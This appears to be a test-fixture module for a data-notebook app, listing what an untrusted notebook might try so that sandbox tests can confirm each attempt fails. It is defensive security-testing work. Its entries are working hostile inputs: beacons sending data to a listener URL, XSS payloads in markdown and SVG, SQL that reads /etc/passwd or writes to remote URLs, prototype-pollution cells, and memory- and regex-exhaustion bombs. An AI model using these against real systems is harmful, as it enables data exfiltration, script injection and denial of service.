/**
 * What a stranger's notebook may try, as data: the journeys in Chromium and in Firefox run through these lists, and the
 * table in docs/security.md names every one of them. `URL` stands for the listener, which must stay silent.
 */

/** Expressions in a cell, given `url` (the listener), `home` (the page's own host) and `scope` (the global object). */
export const CODE: Record<string, string> = {
  fetch: "await scope.fetch(url)",
  "fetch of the page's host": "await scope.fetch(home)",
  "fetch without CORS": "await scope.fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })",
  "fetch, kept alive": "await scope.fetch(url, { keepalive: true, mode: 'no-cors' })",
  XMLHttpRequest:
    "await new Promise((yes, no) => { const x = new scope.XMLHttpRequest(); x.onload = yes; x.onerror = () => no(new Error('refused')); x.open('GET', url); x.send(); })",
  WebSocket:
    "await new Promise((yes, no) => { const s = new scope.WebSocket(url.replace('http', 'ws')); s.onopen = yes; s.onerror = () => no(new Error('refused')); })",
  WebSocketStream: "await new scope.WebSocketStream(url.replace('http', 'ws')).opened",
  WebTransport: "await new scope.WebTransport(url.replace('http:', 'https:')).ready",
  EventSource:
    "await new Promise((yes, no) => { const s = new scope.EventSource(url); s.onopen = yes; s.onerror = () => no(new Error('refused')); })",
  WebRTC:
    "const c = new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + url.split('/')[2] }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((yes) => setTimeout(yes, 400))",
  sendBeacon: "scope.navigator.sendBeacon(url, 'secret') || (() => { throw new Error('refused') })()",
  importScripts: "scope.importScripts(url)",
  "import of a URL": "await import(url)",
  "import of the page's host": "await import(home)",
  "import of a data: URL": "await import('data:text/javascript,' + 'export default 1')",
  "a worker of a URL":
    "await new Promise((yes, no) => { const w = new scope.Worker(url); w.onmessage = yes; w.onerror = () => no(new Error('refused')); })",
  "a shared worker of a URL":
    "await new Promise((yes, no) => { const w = new scope.SharedWorker(url); w.onerror = () => no(new Error('refused')); })",
  "a service worker": "await scope.navigator.serviceWorker.register(url)",
  "a font": "await new scope.FontFace('x', 'url(' + url + ')').load()",
  "an image":
    "await new Promise((yes, no) => { const i = new scope.Image(); i.onload = i.onerror = yes; i.src = url; })",
  indexedDB:
    "await new Promise((yes, no) => { const r = scope.indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error); })",
  caches: "await scope.caches.open('x')",
  "the origin's files": "await scope.navigator.storage.getDirectory()",
  localStorage: "scope.localStorage.setItem('a', 'b')",
  cookies: "await scope.cookieStore.getAll()",
  "the page's document": "scope.document.body.append('x')",
  "a message to the page": "scope.parent.postMessage({ kind: 'result', id: 1, value: 1 }, '*')",
  "a message to the app's other tabs": "new scope.BroadcastChannel('polytab-notebooks').postMessage({ kind: 'take' })",
  eval: "scope.eval('1')",
  "new Function": "new scope.Function('return 1')()",
  "an async function's constructor": "await (async () => {}).constructor('return 1')()",
  WebAssembly: "await scope.WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
};

/** These have no control: HTTP/3, and what only a worker has. */
export const WITHOUT_CONTROL: readonly string[] = ["WebTransport", "importScripts"];

/** These end the page that they succeed in, so each has a page of its own as its control. */
export const LEAVING: Record<string, string> = {
  "navigation of the page": "scope.location.href = url",
  "navigation of the page above": "scope.top.location = url",
  "window.open": "scope.open(url) ?? (() => { throw new Error('refused') })()",
};

/** Markdown in a text cell, and the HTML whose effect it is after where that is not the same text. `PWN` runs a script. */
export const PROSE: Record<string, { markdown: string; html?: string }> = {
  "an image beacon": { markdown: "![x](URL)", html: '<img src="URL">' },
  "an image beacon by reference": { markdown: "![x][beacon]\n\n[beacon]: URL", html: '<img src="URL">' },
  "a raw image": { markdown: '<img src="URL">' },
  "a raw script": { markdown: "<script>PWN</script>" },
  "a script of a URL": { markdown: '<script src="URL"></script>' },
  "a handler on an image": { markdown: '<img src="data:," onerror="PWN">' },
  "a handler in SVG": { markdown: '<svg onload="PWN"></svg>' },
  "a script in SVG": { markdown: "<svg><script>PWN</script></svg>" },
  "a script in an SVG picture": {
    markdown: "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='PWN'/%3E)",
    html: '<svg onload="PWN"></svg>',
  },
  "an image in an SVG picture": {
    markdown:
      "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='URL'/%3E%3C/svg%3E)",
    html: '<svg><image href="URL"/></svg>',
  },
  "a CSS beacon": { markdown: "<style>body { background: url(URL) }</style>" },
  "a style sheet": { markdown: '<link rel="stylesheet" href="URL">' },
  "a style attribute": { markdown: '<p style="background: url(URL)">x</p>' },
  "a frame": { markdown: '<iframe src="URL"></iframe>' },
  "a frame of its own text": { markdown: '<iframe srcdoc="<script>PWN</script>"></iframe>' },
  "an object": { markdown: '<object data="URL"></object>' },
  "an embedded file": { markdown: '<embed src="URL">' },
  "a prefetch": { markdown: '<link rel="preload" as="image" href="URL">' },
  "a video": { markdown: '<video src="URL" autoplay></video>' },
  "a script's link": { markdown: "[x](javascript:PWN)", html: '<a href="javascript:PWN">x</a>' },
  "a script's link in disguise": {
    markdown: "[x](java&#10;script:PWN)",
    html: '<a href="java&#10;script:PWN">x</a>',
  },
};

/** One statement a cell, and the fault that it has to end with: refused before the engine, or by it. */
export const SQL: Record<string, { statement: string; ends: string }> = {
  "read of a Parquet URL": { statement: "select * from read_parquet('URL.parquet?' || 'secret')", ends: "sql-refused" },
  "read of a CSV URL": { statement: "select * from read_csv_auto('URL.csv')", ends: "sql-refused" },
  "a query's result in a URL": {
    statement: "select * from read_parquet('URL.parquet?' || (select count(*) from train))",
    ends: "sql-binding",
  },
  "a URL in place of a table": { statement: "from 'URL.parquet'", ends: "sql-refused" },
  "a file in place of a table": { statement: "from '/etc/passwd'", ends: "sql-catalog" },
  "a list of files": { statement: "select * from glob('*')", ends: "sql-refused" },
  "COPY to a URL": { statement: "copy train to 'URL.csv'", ends: "sql-refused" },
  "COPY under EXPLAIN": { statement: "explain analyze copy train to 'URL.csv'", ends: "sql-refused" },
  "ATTACH of a URL": { statement: "attach 'URL.db'", ends: "sql-refused" },
  "INSTALL of an extension": { statement: "install httpfs", ends: "sql-refused" },
  "LOAD of an extension": { statement: "load 'URL.wasm'", ends: "sql-refused" },
  "SET of an access setting": { statement: "set enable_external_access=true", ends: "sql-refused" },
  "PRAGMA of a setting": { statement: "pragma enable_profiling='json'", ends: "sql-refused" },
  "a second statement": { statement: "select 1; copy train to 'URL.csv'", ends: "sql-refused" },
  "a write behind WITH": { statement: "with t as (select 1) insert into train select * from t", ends: "sql-refused" },
  "EXPORT of the database": { statement: "export database 'URL'", ends: "sql-refused" },
  "IMPORT of a database": { statement: "import database 'URL'", ends: "sql-refused" },
};

/** A cell that poisons what its worker packs columns with, so that the page is sent another column than it made. */
const forging = (column: string): string => `import { defineFeatures } from "polytab";
const { map } = Array.prototype;
Array.prototype.map = function (make, ...rest) {
  const forged = (item, ...more) => {
    const made = make(item, ...more);
    return item?.kind === "number" && made?.kind === "number" ? ${column} : made;
  };
  return Reflect.apply(map, this, [forged, ...rest]);
};
export default defineFeatures(() => ({ a: 1 }));`;

/** A cell that has its worker say that it lacks embeddings, however often it is given them. */
const needing = (columns: string): string => `import { defineFeatures } from "polytab";
Set.prototype[Symbol.iterator] = () => ${columns}.values();
export default defineFeatures(() => ({ a: 1 }));`;

/** A table of markup that the notebook of attacks has, for a chart to draw. */
export const MARKED = `select '<img src="data:," onerror="PWN">' as label, 1 as n`;

/** What a cell may hand back to the page, malformed, oversized or polluting: it fails with this fault, or is harmless. */
export const RESULTS: Record<string, { kind: "ts" | "sql" | "chart"; source: string; ends: string }> = {
  "__proto__ as a column": {
    kind: "ts",
    source: `export default JSON.parse('[{ "__proto__": { "polluted": 1 }, "a": 1 }]');`,
    ends: "code-table",
  },
  "__proto__ within a value": {
    kind: "ts",
    source: `export default [{ a: JSON.parse('{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } } }') }];`,
    ends: "ready",
  },
  "__proto__ as a name in SQL": {
    kind: "sql",
    source: `select {'polluted': 1} as "__proto__", {'prototype': {'polluted': 1}} as "constructor"`,
    ends: "ready",
  },
  "markup in values and names": {
    kind: "sql",
    source: `select '<img src="data:," onerror="PWN">' as "<svg onload=PWN>"`,
    ends: "ready",
  },
  "markup in what is written": {
    kind: "ts",
    source: 'console.log(`<img src="data:," onerror="PWN">`); export default [{ a: 1 }];',
    ends: "ready",
  },
  "markup in an error": {
    kind: "ts",
    source: 'throw new Error(`<img src="data:," onerror="PWN">`);',
    ends: "code-threw",
  },
  "five thousand columns": {
    kind: "ts",
    source: `export default Array.from({ length: 2 }, () => Object.fromEntries(Array.from({ length: 5000 }, (_, i) => ["c" + i, 1])));`,
    ends: "code-table",
  },
  "a result of 600 MB": {
    kind: "ts",
    source: `const text = "x".repeat(6e7); export default Array.from({ length: 10 }, (_, i) => ({ a: i + text }));`,
    ends: "invalid",
  },
  "a text of 20 MB in a cell": {
    kind: "ts",
    source: `export default [{ a: "x".repeat(2e7) }];`,
    ends: "ready",
  },
  "a flood of output": {
    kind: "ts",
    source: `for (let i = 0; i < 1e5; i++) console.log("x".repeat(1e4)); export default [{ a: 1 }];`,
    ends: "ready",
  },
  "markup in a chart": {
    kind: "chart",
    source: `source: marked\ntype: bar\nx: label\ny: n\ntitle: '<svg onload="PWN"></svg>'`,
    ends: "ready",
  },
  "a forged reply: a prototype for a column": {
    kind: "ts",
    source: forging('{ kind: "number", name: "__proto__", values: 7 }'),
    ends: "invalid",
  },
  "a forged reply: four thousand million rows": {
    kind: "ts",
    source: forging('{ kind: "other", name: "a", values: new Array(2 ** 32 - 1) }'),
    ends: "invalid",
  },
  "a forged reply: memory of another size": {
    kind: "ts",
    source: forging('{ kind: "number", name: "a", values: new Float64Array(3) }'),
    ends: "invalid",
  },
  "a forged reply: embeddings of the label": {
    kind: "ts",
    source: needing('["label"]'),
    ends: "code-embedding",
  },
  "a forged reply: embeddings of what is no column": {
    kind: "ts",
    source: needing('["__proto__"]'),
    ends: "code-embedding",
  },
  "a forged reply: embeddings of what is no name": {
    kind: "ts",
    source: needing('[""]'),
    ends: "invalid",
  },
  "a forged reply: the same embeddings a thousand times, and again": {
    kind: "ts",
    source: needing('Array(1_000).fill("image")'),
    ends: "code-embedding",
  },
};

/**
 * Each runs without an end, or takes all memory; each is ended by Stop or with this fault, and the next cell runs. In
 * Firefox, where a frame has no process of its own, a page goes down with what `takesProcess`: its notebook is kept.
 */
export const BOMBS: Record<string, { kind: "ts" | "sql"; source: string; ends: string; takesProcess?: true }> = {
  "an endless loop in code": { kind: "ts", source: "for (;;) {}", ends: "stop" },
  "an endless chain of promises": {
    kind: "ts",
    source: "const again = (): Promise<void> => Promise.resolve().then(again); await again();",
    ends: "stop",
  },
  "a regular expression without an end": {
    kind: "ts",
    source: `export default [{ a: /^(a+)+$/.test("a".repeat(60) + "!") }];`,
    ends: "stop",
  },
  "arrays of all memory": {
    kind: "ts",
    source: "const all: Float64Array[] = [];\nfor (;;) all.push(new Float64Array(2 ** 27));",
    ends: "code-threw",
    takesProcess: true,
  },
  "an endless join in SQL": {
    kind: "sql",
    source: "select count(*) from range(100000000) a, range(100000000) b where a.range + b.range = -1",
    ends: "stop",
  },
  "a LIKE pattern without an end in SQL": {
    kind: "sql",
    source: `select count(*) from range(100) where repeat('a', 4000 + range::int) like '${"%a_".repeat(12)}%b'`,
    ends: "stop",
  },
  "a regular expression that explodes in SQL": {
    kind: "sql",
    source: `select regexp_matches(repeat('a', 1000), '((((a{1,100}){1,100}){1,100}){1,100})b') as a`,
    ends: "sql-failed",
  },
  "all memory in SQL": {
    kind: "sql",
    source: "select string_agg(repeat('x', 1000000), '') as a from range(100000)",
    ends: "sql-memory",
  },
  // Last, because the frame's process goes with it.
  "a heap of all memory": {
    kind: "ts",
    source: "const all: number[][] = [];\nfor (;;) all.push(new Array(1e7).fill(all.length + 0.5));",
    ends: "sandbox-died",
    takesProcess: true,
  },
};

/** What comes from beside the notebook. */
export const AROUND: readonly string[] = ["DNS prefetch", "messages forged from a page around the app"];

/** A module's expression: an array of what became of each try. It tries all at once, each against a path of its own. */
export function tryAll(tries: Record<string, string>, base: string): string {
  const each = Object.entries(tries).map(
    ([name, code], index) =>
      `{ name: ${JSON.stringify(name)}, outcome: await Promise.race([(async (url) => { ${code}; return "IT WORKED"; })(${JSON.stringify(`${base}try-${index}.js`)}).catch((error) => String(error && error.message || error)), new Promise((late) => setTimeout(() => late("nothing happened"), 700))]) }`,
  );
  return `[${each.join(",\n")}]`;
}
